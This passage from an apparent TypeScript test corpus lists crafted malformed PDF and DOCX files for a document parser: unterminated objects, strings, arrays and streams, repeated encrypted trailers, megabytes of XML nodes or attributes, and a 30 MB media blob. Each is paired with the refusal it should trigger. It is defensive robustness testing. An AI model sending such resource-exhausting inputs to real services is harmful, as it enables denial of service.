		["objects-begun.pdf", repeated("15 0 obj "), "refused: tooComplicated"],
		["strings-never-ended.pdf", repeated("1 0 obj ("), "refused: tooComplicated"],
		["arrays-never-ended.pdf", repeated("1 0 obj [["), "refused: tooComplicated"],
		["streams-never-ended.pdf", repeated("1 0 obj<</N 1/First 1>>stream\n"), "refused: tooComplicated"],
		["trailers.pdf", repeated("trailer<</Encrypt 5 0 R>>"), "refused: tooComplicated"],
		["dictionaries.pdf", repeated("1 0 obj<</A/B>>"), "refused: tooComplicated"],
		["much-text.docx", docx({ text: `<a>${numbered(2 * MB, (i) => `<b c="${i}"/>`)}</a>` }), "refused: tooComplicated"],
		["many-attributes.docx", docx({ text: `<a ${numbered(MB, (i) => `b${i}=""`)}/>` }), "refused: tooComplicated"],
		[
			"pictures-that-grow.docx",
			docx({ beside: [{ name: "word/media/a.bin", content: Buffer.alloc(30 * MB) }] }),
			"refused: damaged",
		],
	]);

export const corpus: CorpusFile[] = [...madeByPrograms, ...pdfs, ...docxs, ...docs];
